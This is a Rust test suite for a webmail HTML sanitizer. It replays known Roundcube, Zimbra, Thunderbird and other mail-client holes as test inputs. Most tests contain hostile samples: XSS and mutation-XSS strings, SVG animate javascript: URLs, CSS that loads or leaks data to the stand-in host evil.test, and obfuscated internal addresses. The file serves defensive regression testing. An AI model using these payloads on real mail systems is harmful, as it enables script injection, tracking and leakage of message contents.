//! Holes that were found in webmail and mail programs in recent years, each by
//! its name, with a message of our own that would have passed through it.
//!
//! Sources: the release notes of Roundcube 1.6.3 to 1.7.4 (2023 to 2026), and the
//! public records of the CVEs that are named. What concerns no HTML (subjects,
//! file names, media types) is tried in `e2e`, on the screen.

#![allow(
    clippy::panic,
    clippy::expect_used,
    reason = "a panic is a test's report"
)]

mod judge;

use html_sanitizer::{RemotePolicy, sanitize};

/// What is shown of a message that is harmless under both policies, settled, and
/// while images are blocked says nothing of `evil.test`.
#[track_caller]
fn harmless(html: &str) -> String {
    let output = judge::check("hole", html, &[]).unwrap_or_default();
    let without_links = output.replace("href=\"https://evil.test/\"", "");
    assert!(!without_links.contains("evil.test"), "{html}\n=> {output}");
    output
}

/// As [`harmless`]; that it wanted something from elsewhere is told, and consent
/// does not let it through, for it is no image in the text or behind it.
#[track_caller]
fn never_loaded(html: &str) {
    harmless(html);
    let allowed = sanitize(html, RemotePolicy::AllowImages, &[]).expect("no limit is passed");
    assert!(!allowed.html.as_str().contains("evil.test"), "{html}");
}

#[track_caller]
fn told(html: &str) {
    let result = sanitize(html, RemotePolicy::Block, &[]).expect("no limit is passed");
    assert!(
        result.remote_counts.total() > 0,
        "nobody was told of {html}"
    );
}

// Roundcube

#[test]
fn roundcube_svg_use_of_a_data_document_cve_2023_5631() {
    never_loaded(
        "<svg><use href=\"dAta:image/s\tvg+xml;base64,PHN2ZyBpZD0ieCIvPg==#x\"></use></svg>x",
    );
    assert!(
        !harmless("<svg><use xlink:href='data:image/svg+xml,<svg id=x onload=a()>#x'/>")
            .contains("svg")
    );
}

#[test]
fn roundcube_link_references_in_plain_text_cve_2023_43770() {
    // A placeholder of a linkifier is a word like any other.
    let output = harmless("##str_replacement_0## [<script>a()</script>] ##str_replacement_1##");
    assert!(output.contains("##str_replacement_0## [] ##str_replacement_1##"));
}

#[test]
fn roundcube_svg_animate_of_an_address_cve_2024_37383() {
    for name in ["href", "href ", "\thref", "xlink:href"] {
        never_loaded(&format!(
            "<svg><a><animate attributeName=\"{name}\" values=\"javascript:a();https://evil.test\" dur=1s />\
             <text>x</text></a></svg>"
        ));
    }
}

#[test]
fn roundcube_svg_animate_of_other_attributes_cve_2025_68461() {
    for attribute in ["href", "fill", "filter", "stroke", "style", "src", "begin"] {
        never_loaded(&format!(
            "<svg><rect><set attributeName={attribute} to='url(https://evil.test/a)'/>\
             <animate attributeName={attribute} from=a to='url(https://evil.test/b)'/></rect></svg>x"
        ));
    }
}

#[test]
fn roundcube_rewriting_after_sanitizing_cve_2024_42009() {
    // Its post-processing read attributes out of attributes' values.
    let output = harmless(
        "<body title='bgcolor=x style=a onload=a()' class=\"x name=y onanimationstart=a()\">\
         <p title='<body onload=a()>'>x</p>",
    );
    assert!(output.contains("title=\"&lt;body onload=a()&gt;\""));
    assert!(!output.contains("onanimationstart"));
}

#[test]
fn roundcube_css_that_fetches_cve_2024_42010() {
    for css in [
        "@import 'https://evil.test/a';",
        "@import/**/url(https://evil.test/a);",
        "@\\69 mport \"https://evil.test/a\";",
        "p{background:\\75 rl(https://evil.test/a)}",
        "p{background:image-set('https://evil.test/a' 1x)}",
        "p{background:-webkit-image-set(url(https://evil.test/a) 1x)}",
        "p{background:cross-fade(url(https://evil.test/a),red)}",
        "p{cursor:url(https://evil.test/a),auto}",
        "p{mask:url(https://evil.test/a)}",
        "p{filter:url(https://evil.test/a#b)}",
        "p{content:url(https://evil.test/a)}",
        "p{border-image:url(https://evil.test/a)}",
        "p{shape-outside:url(https://evil.test/a)}",
        "@font-face{font-family:x;src:url(https://evil.test/a)}",
        "@namespace url(https://evil.test/a);",
        "@document url(https://evil.test/a){p{color:red}}",
    ] {
        harmless(&format!("<style>{css}</style><p>x"));
        told(&format!("<style>{css}</style><p>x"));
        let declarations = css.trim_start_matches("p{").trim_end_matches('}');
        harmless(&format!(
            "<p style=\"{}\">x",
            declarations.replace('"', "&quot;")
        ));
    }
}

#[test]
fn roundcube_values_put_together_by_var_2026() {
    for html in [
        "<style>:root{--a:url(https://evil.test/a)}p{background:var(--a)}</style><p>x",
        "<div style='--a:url(https://evil.test/a)'><p style='background:var(--a)'>x",
        "<p style='background:var(--b,url(https://evil.test/a))'>x",
        "<style>@property --a{syntax:'*';inherits:true;initial-value:url(https://evil.test/a)}\
         p{background:var(--a)}</style><p>x",
        "<p style='background:env(x,url(https://evil.test/a))'>x",
        "<p title=https://evil.test style='background:attr(title url)'>x",
    ] {
        let output = harmless(&html.replace(" title=https://evil.test", " title=here"));
        assert!(
            !output.contains("var(") && !output.contains("--a"),
            "{output}"
        );
    }
}

#[test]
fn roundcube_css_injection_by_comments_and_escapes_cve_2025_68460_class() {
    for css in [
        "/*<img src=https://evil.test onerror=a()>*/p{color:red}",
        "p{color:red;/*}*/position:fixed;top:0}",
        "p{position:/**/fi\\78 ed}",
        "p{pos\\69tion:fixed!important}",
        "p{color:red}/*/ p{position:fixed} /**/",
        "p{color:re\\64;}",
        "<!--p{position:absolute}-->",
        "p{width:100vw;height:100vh;position:fixed !important;inset:0!IMPORTANT}",
    ] {
        let output = harmless(&format!("<style>{css}</style><p>x"));
        assert!(!output.contains("position:fixed"), "{css} => {output}");
        assert!(!output.contains("<img"), "{css} => {output}");
    }
}

#[test]
fn roundcube_css_smuggled_by_an_ampersand_2026() {
    // Decoded once more than it was encoded, this would be a second declaration.
    let output = harmless("<p style=\"color:red&amp;#59;position:fixed\">x");
    assert!(!output.contains("position"), "{output}");
    // Within a string it stays one: no quotation mark ends it.
    let output = harmless("<p style=\"font-family:'&amp;quot;;position:fixed;\\27'\">x");
    assert!(
        output.contains("style=\"font-family:'\\26 quot;;position:fixed;\\27 '\">"),
        "{output}"
    );
}

#[test]
fn roundcube_image_behind_the_body_2026() {
    for html in [
        "<body background=https://evil.test/a>x",
        "<body background=\"https://evil.test/a') red;position:fixed;x:url('\">x",
        "<table background='//evil.test/a'><tr><td>x",
        "<body style='background-image:url(https://evil.test/a)'>x",
    ] {
        harmless(html);
        told(html);
    }
    let allowed = sanitize(
        "<body background=\"https://a.example/');position:fixed;x:url('\">x",
        RemotePolicy::AllowImages,
        &[],
    );
    let allowed = allowed.expect("no limit is passed");
    let html = allowed.html.as_str();
    assert!(
        html.contains("url('https://a.example/\\27 );position:fixed;x:url(\\27 ')\">x"),
        "{html}"
    );
}

#[test]
fn roundcube_images_that_svg_loads_2026() {
    for html in [
        "<svg><filter id=t><feImage href=https://evil.test/a /></filter></svg>x",
        "<svg><image xlink:href=https://evil.test/a /></svg>x",
        "<svg><rect fill='url(https://evil.test/a#b)' filter=\"u\\72l('https://evil.test/c')\"/></svg>x",
        "<svg><image><animate attributeName=href to=https://evil.test/a /></image></svg>x",
        "<svg><style>@import 'https://evil.test/a'</style></svg>x",
        "<svg><foreignObject><img src=https://evil.test/a></foreignObject></svg>x",
    ] {
        never_loaded(html);
    }
}

#[test]
fn roundcube_addresses_of_the_network_within_2026() {
    // Nothing here fetches for others, and no number passes for a name.
    for address in [
        "http://2130706433/a",
        "http://0x7f000001/a",
        "http://127.1/a",
        "http://[::ffff:7f00:1/a",
        "http://localhost%2eevil.test/a",
    ] {
        let html = format!("<img src='{address}'><link rel=stylesheet href='{address}'>x");
        let allowed = sanitize(&html, RemotePolicy::AllowImages, &[]).expect("no limit is passed");
        assert!(!allowed.html.as_str().contains("src="), "{address}");
    }
}

#[test]
fn roundcube_text_enriched_and_tnef_are_no_html_2026() {
    let output = harmless("<param><img src=x onerror=a()></param><x-tad-bigger onload=a()>x");
    assert!(!output.contains("onerror") && !output.contains("onload"));
}

// Other webmail and mail programs

#[test]
fn zimbra_attributes_in_calendar_and_css_cve_2025_27915_class() {
    harmless("<details ontoggle=a() open><summary>x</summary>y</details>");
    harmless("<style>@keyframes a{from{color:red}}p{animation:a}</style><p onanimationstart=a()>x");
    harmless("<p ontransitionend=a() style='transition:all 1s'>x");
}

#[test]
fn sogo_and_snappymail_events_that_nobody_triggers() {
    for event in [
        "onfocus",
        "onbeforetoggle",
        "onscrollend",
        "oncontentvisibilityautostatechange",
        "onpointerrawupdate",
        "onauxclick",
        "onsearch",
        "onwebkitanimationend",
        "onmarqueestart",
    ] {
        let output = harmless(&format!(
            "<xss {event}=a() tabindex=1 id=x autofocus>x</xss>"
        ));
        assert!(!output.contains(event));
    }
}

#[test]
fn thunderbird_remote_content_by_odd_ways_cve_2023_0430_class() {
    for html in [
        "<object data=https://evil.test/a type=text/html>x</object>",
        "<embed src=https://evil.test/a>",
        "<iframe srcdoc='<img src=https://evil.test/a>'></iframe>",
        "<link rel=preconnect href=https://evil.test>",
        "<link rel=dns-prefetch href=//evil.test>",
        "<meta http-equiv=refresh content='0;url=https://evil.test'>",
        "<meta http-equiv=link content='<https://evil.test>;rel=preload'>",
        "<video><track src=https://evil.test/a></video>",
        "<input type=image src=https://evil.test/a>",
        "<html manifest=https://evil.test/a>x",
        "<a ping=https://evil.test/a href=https://a.example/>x</a>",
        "<a attributionsrc=https://evil.test/a href=https://a.example/>x</a>",
        "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"https://evil.test\"]}]}</script>",
        "<base href=https://evil.test/><img src=a>",
        "<table><tr><td><img longdesc=https://evil.test/a usemap=#a></table>",
        "<blockquote cite=https://evil.test/a>x</blockquote>",
        "<form action=https://evil.test/a><button formaction=https://evil.test/b>x</form>",
    ] {
        never_loaded(html);
    }
}

#[test]
fn efail_frames_are_not_joined_across_parts() {
    // The first part leaves an attribute open; what follows is not its value.
    let output = harmless("<img src=\"https://evil.test/\n<hr>the secret words\n\">x");
    assert!(!output.contains("secret"), "{output}");
}

#[test]
fn kobold_letters_css_that_shows_other_words_when_forwarded() {
    // Outside of a message the classes are others, so what they say is nothing.
    let output = harmless("<style>.pre>p{display:none}</style><div class=pre><p>x");
    assert!(
        output.contains(".m-body .m-pre>p{display:none}"),
        "{output}"
    );
}

// Sanitizers

#[test]
fn mutation_by_namespaces() {
    for html in [
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=a()>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=a()&gt;\">",
        "<svg><desc><math><mi><style><img src=x onerror=a()></style></mi></math></desc></svg>",
        "<math><annotation-xml encoding='text/html'><style><img src=x onerror=a()></style></annotation-xml>",
        "<svg><annotation-xml><foreignobject><style><!--</style><p id='--><img src=x onerror=a()>'>",
        "<table><caption><svg><title><table><caption></caption></table></title><style><a id='</style><img src=x onerror=a()>'>",
        "<select><template><style><!--</style><a rel='--></style></template></select><img id=x src onerror=a()>'>",
        "<noscript><style></noscript><img src=x onerror=a()></style>",
        "<a><svg><a><p><style><a title='</style><img src=x onerror=a()>'>",
        "<p><svg><p><style><g title='</style><img src=x onerror=a()>'>",
        "<div><template shadowrootmode=open><img src=x onerror=a()></template></div>",
        "<svg><![CDATA[</svg><img src=x onerror=a()>]]>",
        "<?xml-stylesheet > <img src=x onerror=a()> ?>",
        "<xmp><svg><b id='</xmp><img src=x onerror=a()>'>",
        "<b><a><table><b><a></table><img src=x onerror=a()>",
        "<image src=x onerror=a()>",
        "\u{feff}<\u{0}script>a()</script>",
        "<a href='x:\u{1}javascript:a()'>x</a>",
    ] {
        // The judge reads it with other eyes and lets no handler pass.
        harmless(html);
    }
}

#[test]
fn clobbering_of_names() {
    for html in [
        "<a id=document><a id=document name=cookie href=x>",
        "<form id=location><input name=href value=javascript:a()>",
        "<img name=getElementById><iframe name=top></iframe>",
        "<form><input name=attributes><input name=nodeName><input name=parentNode></form>",
        "<p id=__proto__ class=constructor>x",
    ] {
        let output = harmless(html);
        for part in output.split(" id=\"").skip(1) {
            assert!(part.starts_with("m-"), "{output}");
        }
        assert!(!output.contains(" name="), "{output}");
    }
}

#[test]
fn styles_that_leak_what_they_stand_on() {
    for css in [
        "input[value^='a']{background:url(https://evil.test/a)}",
        "[title*=secret]{background:url(https://evil.test/a)}",
        "p:has(a){background:url(https://evil.test/a)}",
        "@container style(--a:b){p{background:url(https://evil.test/a)}}",
        "@media (min-width:1px){p::before{content:url(https://evil.test/a)}}",
        "@supports (a:b){p{background:url(https://evil.test/a)}}",
        "@layer x{p{background:url(https://evil.test/a)}}",
        "@scope (p){a{background:url(https://evil.test/a)}}",
        "p{&:hover{background:url(https://evil.test/a)}}",
        "::-webkit-scrollbar{background:url(https://evil.test/a)}",
        "p::first-line{background:url(https://evil.test/a)}",
        ":host{background:url(https://evil.test/a)}",
        ":target-text{background:url(https://evil.test/a)}",
    ] {
        never_loaded(&format!("<style>{css}</style><p>x"));
    }
}
